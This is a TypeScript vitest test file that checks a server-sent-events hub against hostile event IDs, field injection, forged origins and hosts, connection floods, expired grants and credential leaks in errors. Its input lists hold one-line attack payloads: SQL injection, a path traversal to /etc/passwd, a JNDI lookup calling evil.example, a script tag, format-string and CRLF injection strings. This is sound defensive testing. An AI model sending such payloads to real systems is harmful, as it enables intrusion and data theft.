import { inspect } from "node:util";
import { defineEvents, InvalidEventError, text } from "@sse/protocol";
import { describe, expect, test, vi } from "vitest";
import { CONTROL_CHANNEL } from "../src/backplane/message.ts";
import { eventStream } from "../src/event-stream.ts";
import type { Grant } from "../src/grants.ts";
import { createChannelHub, createHub } from "../src/hub.ts";
import type { HubOptions } from "../src/hub-options.ts";
import { type Asked, closedInTest, RawReader, serveInTest } from "./http.ts";
import { BodyReader } from "./support/body.ts";
import { eventually } from "./support/serve.ts";

const events = defineEvents({ log: text() });
const SECRET = "history-that-nobody-asked-for";

/** A feed whose log holds something that only a position of its own may bring back. */
async function feedOf(options: HubOptions = {}) {
  const onError = vi.fn();
  const hub = closedInTest(createHub(events, { heartbeatMs: false, onError, ...options }));
  const { port } = await serveInTest(hub.respond);
  const first = await hub.publish("log", SECRET);
  const [epoch = ""] = first.split(".");
  return { hub, epoch, onError, port, get: (asked?: Asked) => new RawReader(port, asked) };
}

async function answered(reader: RawReader): Promise<RawReader> {
  await expect.poll(() => reader.status).toBeGreaterThan(0);
  return reader;
}

describe("a last event ID", () => {
  const hostile: readonly (readonly [string, string])[] = [
    ["garbage", "garbage"],
    ["another tenant's", "tenant2-epoch.1"],
    ["SQL", "' OR 1=1; DROP TABLE events; --"],
    ["a dash, which is everything in Redis", "-"],
    ["a plus", "+"],
    ["a dollar", "$"],
    ["an angle bracket", ">"],
    ["a star", "*"],
    ["zero", "0"],
    ["zero and zero, which is everything in Redis", "0-0"],
    ["a stream's position in Redis", "1526919030474-55"],
    ["a subject of NATS", "hub.>"],
    ["a path", "../../etc/passwd"],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is text
    ["a template", "${jndi:ldap://evil.example/a}"],
    ["markup", "<script>alert(1)</script>"],
    ["a format", "%s%n%x"],
    ["a prototype", "__proto__.1"],
    ["a constructor", "constructor.1"],
    ["an emoji", "🦊.1"],
    ["an epoch that is too long", `${"e".repeat(65)}.1`],
    ["nothing but dots", "..."],
    ["8 KB", "7".repeat(8192)],
  ];

  test.each(hostile)(
    "that is %s is a gap, from header and query, and never the history",
    async (_name, id) => {
      const { hub, get, onError } = await feedOf();
      const readers = [get({ path: `/?lastEventId=${encodeURIComponent(id)}` })];
      // A header is latin1, in which the bytes of UTF-8 go.
      const header = Buffer.from(id, "utf8").toString("latin1");
      readers.push(get({ headers: { "last-event-id": header } }));
      for (const reader of readers) await expect.poll(() => reader.seen.length).toBeGreaterThan(0);
      await hub.publish("log", "live");
      for (const reader of readers) {
        await expect.poll(() => reader.seen.at(-1)).toBe("log live");
        expect(reader.status).toBe(200);
        expect(reader.events.map(({ type }) => type)).toEqual(["sse.gap", "log"]);
        expect(reader.text).not.toContain(SECRET);
        // What is shown of it is data on one line.
        expect(JSON.parse(reader.events[0]?.data ?? "").from.length).toBeLessThanOrEqual(1024);
      }
      expect(onError).not.toHaveBeenCalled();
    },
  );

  test.each(["\r", "\n", "\r\n", "\0", "\u2028", "\ud800"])(
    "with %j in the query writes no field of its own",
    async (evil) => {
      const { hub, get } = await feedOf();
      const id = `x${evil}data: injected${evil}${evil}event: injected`;
      const query = new URLSearchParams({ lastEventId: id.toWellFormed() });
      const reader = get({ path: `/?${query}` });
      await expect.poll(() => reader.seen.length).toBe(1);
      await hub.publish("log", "live");
      await expect.poll(() => reader.seen.at(-1)).toBe("log live");
      expect(reader.events.map(({ type }) => type)).toEqual(["sse.gap", "log"]);
      for (const line of reader.text.split(/[\r\n]/)) expect(line).not.toMatch(/^(data|event): injected/);
    },
  );

  test.each([
    ["the future", ".2"],
    ["the far future", ".9007199254740991"],
    ["past what is an integer", ".9007199254740993"],
    ["negative", ".-1"],
    ["a fraction", ".0.5"],
    ["an exponent", ".1e0"],
    ["hexadecimal", ".0x0"],
    ["with a leading zero", ".00"],
    ["full-width", ".０"],
    ["infinite", ".Infinity"],
  ])("of this epoch whose offset is %s is a gap", async (_name, offset) => {
    const { hub, epoch, get } = await feedOf();
    const reader = get({ path: `/?lastEventId=${encodeURIComponent(epoch + offset)}` });
    await expect.poll(() => reader.seen.length).toBe(1);
    await hub.publish("log", "live");
    await expect.poll(() => reader.seen.at(-1)).toBe("log live");
    expect(reader.events.map(({ type }) => type)).toEqual(["sse.gap", "log"]);
    expect(reader.text).not.toContain(SECRET);
  });

  test("of 64 KB is refused by the server as a header, and shown in part from a query", async () => {
    const { hub, get, port } = await feedOf();
    const id = "7".repeat(65_536);
    const byHeader = await answered(get({ headers: { "last-event-id": id } }));
    expect(byHeader.status).toBe(431);
    // A URL as long is refused by Node as well; another server may let it through.
    expect((await answered(get({ path: `/?lastEventId=${id}` }))).status).toBe(431);
    const asked = new Request(`http://127.0.0.1:${port}/?lastEventId=${id}`);
    const body = new BodyReader(await hub.respond(asked));
    await body.until("sse.gap");
    expect(body.text.length).toBeLessThan(2000);
    expect(body.text).not.toContain(SECRET);
  });

  test("that cannot be one gives eventStream's producer nothing to look up", async () => {
    const produce = vi.fn();
    const { port } = await serveInTest((request) => eventStream(null, request, produce));
    for (const id of ["a\nb", "a\rb", "a\0b", "é".repeat(513)]) {
      const reader = await answered(
        new RawReader(port, { path: `/?${new URLSearchParams({ lastEventId: id })}` }),
      );
      expect(reader.status).toBe(400);
    }
    expect(produce).not.toHaveBeenCalled();
  });
});

describe("a field", () => {
  test.each(["\r", "\n", "\r\n", "\0"])(
    "with %j cannot be injected: types and ids are refused, data and comments stay what they are",
    async (evil) => {
      const failures: unknown[] = [];
      const { port } = await serveInTest((request) =>
        eventStream(null, request, (connection) => {
          for (const write of [
            () => connection.send(`a${evil}data: injected`, "x"),
            () => connection.send("a", "x", { id: `1${evil}data: injected` }),
            () => connection.send("a", "x", { retryMs: `1${evil}data: injected` as never }),
          ]) {
            try {
              write();
            } catch (error) {
              failures.push(error);
            }
          }
          connection.comment(`c${evil}data: injected${evil}${evil}event: injected`);
          connection.send("a", `d${evil}event: injected${evil}${evil}data: x`);
          connection.end();
        }),
      );
      const reader = new RawReader(port);
      await eventually(() => reader.isComplete);
      expect(failures).toHaveLength(3);
      for (const failure of failures) expect(failure).toBeInstanceOf(InvalidEventError);
      expect(reader.events.map(({ type }) => type)).toEqual(["a", "sse.end"]);
      const lines = evil === "\0" ? evil : "\n";
      expect(reader.events[0]?.data).toBe(`d${lines}event: injected${lines}${lines}data: x`);
    },
  );

  test("of a hub's event is refused before the log has it", async () => {
    const { hub } = await feedOf();
    for (const type of [
      "a\nb",
      "a\rb",
      "a\0b",
      "sse.gap",
      "error",
      "open",
      "*",
      "__proto__",
      "constructor",
      "",
    ]) {
      await expect(hub.publish(type as "log", "x")).rejects.toMatchObject({ code: "invalid-event" });
    }
    expect(hub.stats().published).toBe(1);
  });
});

describe("who asks", () => {
  const cors = { origins: ["https://app.example"], credentials: true };

  test.each([
    "https://evil.example",
    "https://app.example.evil.example",
    "https://app.example:444",
    "http://app.example",
    "https://APP.example",
    "null",
    "",
    "https://app.example, https://evil.example",
    "file://",
    "*",
  ])("from the origin %j gets 403 and no permission to read", async (origin) => {
    const { get } = await feedOf({ cors });
    const reader = await answered(get({ headers: { origin } }));
    expect([reader.status, reader.headers.get("access-control-allow-origin")]).toEqual([403, null]);
    expect(reader.text).not.toContain(SECRET);
  });

  test.each(["evil.example", "127.0.0.1", "127.0.0.1:1", "localhost", "127.0.0.1.evil.example"])(
    "for the host %s gets 421",
    async (host) => {
      const hub = closedInTest(createHub(events, { hosts: ["events.example:8443"] }));
      const { port } = await serveInTest(hub.respond);
      expect((await answered(new RawReader(port, { headers: { host } }))).status).toBe(421);
    },
  );

  test("for a host that is none gets 400, and the process goes on", async () => {
    const { get } = await feedOf({ hosts: ["a"] });
    for (const host of ["", "a b", "a/b", "a@b", "[::1", "a:99999x", "a\\b"]) {
      expect((await answered(get({ headers: { host } }))).status, host).toBe(400);
    }
  });

  test("with a body on GET is answered as without", async () => {
    const { hub, get } = await feedOf();
    const reader = get({ headers: { "content-length": "11" } });
    reader.socket.write("hello world");
    await expect.poll(() => reader.seen.length).toBe(1);
    await hub.publish("log", "live");
    await expect.poll(() => reader.seen.at(-1)).toBe("log live");
    expect(reader.status).toBe(200);
  });

  test("in a flood beyond the limits gets 503 or 429, and those who are in go on", async () => {
    const { hub, get } = await feedOf({ limits: { maxConnections: 20 } });
    const readers = Array.from({ length: 200 }, () => get());
    for (const reader of readers) await answered(reader);
    const taken = readers.filter(({ status }) => status === 200);
    expect(taken).toHaveLength(20);
    for (const reader of readers) {
      if (reader.status === 200) continue;
      expect(reader.status).toBe(503);
      expect(Number(reader.headers.get("retry-after"))).toBeGreaterThan(0);
    }
    await hub.publish("log", "live");
    for (const reader of taken) await expect.poll(() => reader.seen.at(-1)).toBe("log live");
    for (const reader of readers) reader.leave();
    await expect.poll(() => hub.stats().connections).toBe(0);
    expect((await answered(get())).status).toBe(200);
  });

  test("beyond what one principal or address may have gets 429, and takes nothing from others", async () => {
    const hub = closedInTest(createHub(events, { limits: { maxPerPrincipal: 2, maxPerIp: 3 } }));
    const status = async (principal: string, ip: string): Promise<number> =>
      (await hub.respond(new Request("http://localhost/"), { principal, ip })).status;
    expect([await status("ann", "1"), await status("ann", "1"), await status("ann", "1")]).toEqual([
      200, 200, 429,
    ]);
    expect([await status("bob", "1"), await status("eve", "1"), await status("eve", "2")]).toEqual([
      200, 429, 200,
    ]);
    expect([await status("__proto__", "3"), await status("constructor", "3")]).toEqual([200, 200]);
  });

  test("and leaves while it is let in leaves nothing behind", async () => {
    let letIn: (() => void) | undefined;
    const asked = new Promise<void>((resolve) => {
      letIn = resolve;
    });
    const authorize = async (): Promise<Grant> => {
      await asked;
      return { principal: "p" };
    };
    const { hub, get } = await feedOf({ authorize, limits: { maxPerPrincipal: 1 } });
    const reader = get();
    await eventually(() => reader.socket.readyState === "open");
    const aborted = new AbortController();
    const answer = hub.respond(new Request("http://localhost/", { signal: aborted.signal }));
    reader.leave();
    aborted.abort();
    letIn?.();
    await answer;
    await expect.poll(() => hub.stats().connections).toBe(0);
    // The one that left may be on its way in still, and holds the only place until it is out again.
    await expect.poll(async () => (await answered(get())).status).toBe(200);
  });
});

describe("a grant", () => {
  test.each<[string, () => Grant]>([
    ["has expired", () => ({ principal: "p", expiresAt: new Date(Date.now() - 1) })],
    ["expires now", () => ({ principal: "p", expiresAt: new Date() })],
    ["never began", () => ({ principal: "p", expiresAt: new Date(0) })],
    ["expires at no time that there is", () => ({ principal: "p", expiresAt: new Date(Number.NaN) })],
  ])("that %s lets nobody in and replays nothing", async (_name, authorize) => {
    const { epoch, get } = await feedOf({ authorize });
    const reader = await answered(get({ headers: { "last-event-id": `${epoch}.0` } }));
    expect(reader.status).toBe(401);
    expect(reader.text).not.toContain(SECRET);
  });

  test("that has shrunk since replays nothing of what it lost", async () => {
    let channels = ["open", "closed"];
    const authorize = (): Grant => ({ principal: "p", channels });
    const hub = closedInTest(createChannelHub(events, { heartbeatMs: false, authorize }));
    const respond = async (id = "") => {
      const request = new Request("http://localhost/", { headers: id === "" ? {} : { "last-event-id": id } });
      return new BodyReader(await hub.respond(request, { channels: ["open", "closed"] }));
    };
    const before = await respond();
    const start = await hub.publish("log", "start", { channel: "open" });
    await before.until("start");
    await before.cancel();
    await hub.publish("log", SECRET, { channel: "closed" });
    channels = ["open"];
    await hub.publish("log", "public", { channel: "open" });
    const after = await respond(start);
    await after.until("public");
    expect(after.text).not.toContain(SECRET);
  });
});

describe("a channel's name", () => {
  const names = [
    "a,b",
    "a.b",
    "a/b",
    "a:b",
    "a|b",
    "a b",
    "a\nb",
    "a\0b",
    '["a","b"]',
    "a*",
    ">",
    "*",
    "",
    "__proto__",
    "constructor",
    "toString",
    "a".repeat(10_000),
  ];

  test("with separators, wildcards or a prototype's names is that name and no other", async () => {
    const hub = closedInTest(createChannelHub(events, { heartbeatMs: false }));
    const start = await hub.publish("log", "start", { channel: "other" });
    for (const channel of names) await hub.publish("log", `to ${names.indexOf(channel)}.`, { channel });
    for (const channel of ["a", "b", ...names]) {
      const request = new Request("http://localhost/", { headers: { "last-event-id": start } });
      const body = new BodyReader(await hub.respond(request, { channels: [channel] }));
      await body.next();
      await hub.publish("log", "live", { channel });
      await body.until("data: live");
      const own = names.indexOf(channel);
      const got = body.events.filter(({ type }) => type === "log").map(({ data }) => data);
      expect(got).toEqual(own === -1 ? ["live"] : [`to ${own}.`, "live"]);
      await body.cancel();
    }
  });

  test("that hubs keep for themselves is refused", async () => {
    const hub = closedInTest(createChannelHub(events));
    const answer = await hub.respond(new Request("http://localhost/"), { channels: [CONTROL_CHANNEL] });
    expect(answer.status).toBe(403);
  });

  test("that a grant has by prototype only is not granted", async () => {
    const hub = closedInTest(
      createChannelHub(events, { authorize: () => ({ principal: "p", channels: [] }) }),
    );
    for (const channel of ["__proto__", "constructor", "length", "0"]) {
      expect((await hub.respond(new Request("http://localhost/"), { channels: [channel] })).status).toBe(403);
    }
  });
});

describe("what is told of a failure", () => {
  test("and what is logged of a connection or a hub shows no credentials", () => {
    const request = new Request("http://localhost/?token=4711", {
      headers: { authorization: "Bearer 4711" },
    });
    const hub = closedInTest(createHub(events, { authorize: () => ({ principal: "4711" }) }));
    const told: string[] = [inspect(hub, { depth: 9, showHidden: true })];
    eventStream(null, request, (connection) => {
      told.push(inspect(connection, { depth: 9 }), JSON.stringify(connection));
      expect(connection.request).toBe(request);
      connection.close();
    });
    expect(told).toHaveLength(3);
    expect(told.join("\n")).not.toContain("4711");
  });

  test("says nothing of tokens, queries or stores, wherever it fails", async () => {
    const token = "token-4711";
    const fail = (): never => {
      throw new Error(`postgres://user:${token}@db.internal failed`);
    };
    const bodies: string[] = [];
    const asked = `http://localhost/?access_token=${token}&lastEventId=garbage`;
    const headers = { authorization: `Bearer ${token}` };
    for (const options of [
      { authorize: fail },
      { snapshot: fail },
      { authorize: () => ({ principal: token, expiresAt: new Date(0) }) },
      { limits: { maxConnections: 1 } },
      { hosts: ["a"] },
    ] satisfies HubOptions[]) {
      const hub = closedInTest(createHub(events, { ...options, onError: () => {} }));
      const answers = [
        hub.respond(new Request(asked, { headers })),
        hub.respond(new Request(asked, { headers })),
      ];
      for (const answer of await Promise.all(answers)) {
        bodies.push([...answer.headers.values()].join("\n"));
        const body = new BodyReader(answer);
        await hub.close();
        bodies.push(await body.all());
      }
    }
    const stream = eventStream(null, new Request("http://localhost/", { headers }), async () => fail(), {
      onError: () => {},
    });
    bodies.push(await new BodyReader(stream).all());
    expect(bodies.join("\n")).not.toMatch(/4711|internal|postgres/);
  });
});
